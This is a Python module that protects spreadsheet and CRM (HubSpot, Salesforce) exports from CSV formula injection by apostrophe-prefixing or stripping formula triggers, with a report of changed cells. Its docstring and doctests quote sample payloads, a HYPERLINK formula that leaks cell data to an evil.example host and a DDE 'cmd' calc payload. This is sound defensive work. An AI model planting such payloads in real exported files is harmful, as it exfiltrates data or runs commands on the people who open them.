"""Formula-injection guard for spreadsheet-bound text.

Spreadsheets (Excel, LibreOffice Calc, Google Sheets) run a cell as a formula when its text
starts with ``=``, ``+``, ``-`` or ``@``, also after leading blanks, and OWASP adds tab, carriage
return and line feed to the characters to neutralise
(https://owasp.org/www-community/attacks/CSV_Injection; ASVS 5.0 requirement 1.2.10). A handle
or name such as ``=HYPERLINK("https://evil.example/?"&A1)`` or ``@SUM(1+9)*cmd|' /C calc'!A0``
in an exported file would otherwise execute when someone opens it.

Two behaviours, chosen per target (see :data:`GUARDS`):

``spreadsheet`` (graphkit's plain CSV output)
    OWASP's fix: a text cell whose first character is a trigger, or whose first non-blank
    character is ``=``, ``+``, ``-`` or ``@``, gets a leading apostrophe, which spreadsheets take
    as "this cell is text". Nothing else changes, and the rule is reversible: a cell that
    already starts with apostrophes followed by a trigger gets one more, so
    :func:`unguard_spreadsheet` (used when ``graphkit export`` reads an earlier CSV result)
    gives back the exact original.

``crm`` (``--crm hubspot`` and ``--crm salesforce``)
    The importers store a cell's text verbatim (Salesforce: "Field values aren't trimmed",
    https://developer.salesforce.com/docs/atlas.en-us.api_asynch.meta/api_asynch/datafiles_csv_valid_record_rows.htm;
    HubSpot maps each column to a property value as given), so an apostrophe added for a
    spreadsheet would become part of the person's name in the CRM. The guard therefore first
    removes what is not part of the value: leading blanks, tabs, CRs and LFs (never part of a
    name, title or handle) and, in handle columns, the ``@`` sigil (``@maya_builds`` is the
    account ``maya_builds``). Only a cell that still starts with ``=``, ``+``, ``-`` or ``@``
    after that, which no genuine name or title does, is prefixed with an apostrophe, so the CRM
    stores inert text that cannot execute in any later export of the CRM's data either. Every
    changed cell is counted and listed in the run manifest. Both CRMs get the same rule
    because both store the text as given; identifiers are guarded like any other text, which
    keeps them stable from one export to the next (upserts still match).

Only text columns are guarded: numbers, dates and booleans cannot hold a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Final, Literal

import polars as pl

GuardName = Literal["spreadsheet", "crm"]
GUARDS: Final[dict[str, GuardName]] = {
    "csv": "spreadsheet",
    "hubspot": "crm",
    "salesforce": "crm",
}
"""The guard each target gets."""

TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n")
"""Characters that make a spreadsheet read a cell as a formula when they lead it."""

# A formula: a trigger first, or = + - @ after leading blanks (Excel skips them).
_FORMULA: Final = r"^(?:[\t\r\n]|[ \t\r\n]*[=+\-@])"
_GUARDED: Final = r"^'*(?:[\t\r\n]|[ \t\r\n]*[=+\-@])"
_LEADING_BLANKS: Final = " \t\r\n"


@dataclass
class GuardReport:
    """Which cells a guard changed, for the run manifest.

    Attributes
    ----------
    behaviour
        ``spreadsheet`` or ``crm``.
    changed
        Number of cells changed.
    cells
        ``(table, row, column, reason)`` of the first changed cells (row 1 = first data row
        of the table), at most :attr:`limit` of them.
    """

    behaviour: str
    changed: int = 0
    cells: list[tuple[str, int, str, str]] = field(default_factory=list)
    limit: int = 100

    def add(self, rows: Iterable[int], column: str, reason: str, table: str = "") -> None:
        """Record the changed ``rows`` (0-based) of ``column``."""
        for row in rows:
            self.changed += 1
            if len(self.cells) < self.limit:
                self.cells.append((table, row + 1, column, reason))

    def as_dict(self) -> dict[str, object]:
        """The report as JSON-ready data."""
        return {
            "behaviour": self.behaviour,
            "cells_changed": self.changed,
            "cells": [
                {"table": table, "row": row, "column": column, "reason": why}
                for table, row, column, why in self.cells
            ],
        }


def _text_columns(frame: pl.DataFrame) -> list[str]:
    return [name for name, dtype in frame.schema.items() if dtype == pl.String]


def is_formula(value: str) -> bool:
    """Whether a spreadsheet would read ``value`` as a formula.

    Examples
    --------
    >>> [is_formula(v) for v in ["=1+1", "  @SUM(A1)", "\\tx", "-5", "Ada", "a=b", "'=1"]]
    [True, True, True, True, False, False, False]
    """
    return pl.Series([value]).str.contains(_FORMULA).item() is True


def guard_spreadsheet(
    frame: pl.DataFrame, report: GuardReport | None = None, *, offset: int = 0
) -> pl.DataFrame:
    """Prefix formula-like text cells with an apostrophe (OWASP), reversibly.

    Parameters
    ----------
    frame
        The table about to be written as CSV.
    report
        Collects the changed cells when given.
    offset
        Row number of the frame's first row in the whole output (for the report).

    Returns
    -------
    polars.DataFrame
        The same table with guarded text columns.

    Examples
    --------
    >>> table = pl.DataFrame({"name": ["=HYPERLINK(1)", "Ada", "'=x", None], "n": [-1, 2, 3, 4]})
    >>> guard_spreadsheet(table)["name"].to_list()
    ["'=HYPERLINK(1)", 'Ada', "''=x", None]
    >>> unguard_spreadsheet(guard_spreadsheet(table)).equals(table)
    True
    """
    columns = _text_columns(frame)
    if report is not None:
        for name in columns:
            hits = frame.select(pl.arg_where(pl.col(name).str.contains(_GUARDED)))
            report.add((offset + int(row) for row in hits.to_series()), name, "prefixed")
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(_GUARDED))
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in columns
    )


def unguard_spreadsheet(frame: pl.DataFrame) -> pl.DataFrame:
    """Undo :func:`guard_spreadsheet`: drop the apostrophe it added."""
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(_GUARDED) & pl.col(name).str.starts_with("'"))
        .then(pl.col(name).str.slice(1))
        .otherwise(pl.col(name))
        .alias(name)
        for name in _text_columns(frame)
    )


def guard_crm(
    frame: pl.DataFrame,
    report: GuardReport | None = None,
    *,
    handle_columns: Iterable[str] = (),
    table: str = "",
) -> pl.DataFrame:
    """Make text cells safe to open in a spreadsheet while keeping what the CRM stores right.

    Leading blanks, tabs, CRs and LFs are removed, the ``@`` sigil is removed from handle
    columns, and a cell still starting with ``=``, ``+``, ``-`` or ``@`` gets a leading
    apostrophe (see the module docstring for why).

    Parameters
    ----------
    frame
        The CRM table (target headers) about to be written.
    report
        Collects the changed cells when given.
    handle_columns
        Columns holding social handles.
    table
        Name of the table in the report (e.g. the CRM object).

    Returns
    -------
    polars.DataFrame

    Examples
    --------
    >>> table = pl.DataFrame({"Handle": ["@maya", " \\t=cmd|' /C calc'!A0"],
    ...                       "Name": ["\\tAda Brightwater", "-1+1"]})
    >>> guarded = guard_crm(table, handle_columns=["Handle"])
    >>> guarded["Handle"].to_list(), guarded["Name"].to_list()
    (['maya', "'=cmd|' /C calc'!A0"], ['Ada Brightwater', "'-1+1"])
    """
    handles = set(handle_columns)
    columns = _text_columns(frame)
    updated = []
    for name in columns:
        value = pl.col(name).str.strip_chars_start(_LEADING_BLANKS)
        if name in handles:
            value = value.str.strip_chars_start("@")
        updated.append(
            pl.when(value.str.contains(r"^[=+\-@]"))
            .then(pl.lit("'") + value)
            .otherwise(value)
            .alias(name)
        )
    guarded = frame.with_columns(updated)
    if report is not None:
        for name in columns:
            changed = frame.select(
                pl.arg_where(pl.col(name).ne_missing(guarded[name])).alias("row")
            ).to_series()
            for row in changed:
                reason = _crm_reason(frame[name][row], handle=name in handles)
                report.add([int(row)], name, reason, table)
    return guarded


def _crm_reason(value: str, *, handle: bool) -> str:
    """Why :func:`guard_crm` changed ``value``."""
    reasons = []
    stripped = value.lstrip(_LEADING_BLANKS)
    if stripped != value:
        reasons.append("leading blanks removed")
    if handle and stripped.startswith("@"):
        reasons.append("handle @ removed")
        stripped = stripped.lstrip("@")
    if stripped[:1] in ("=", "+", "-", "@"):
        reasons.append("prefixed")
    return "; ".join(reasons)
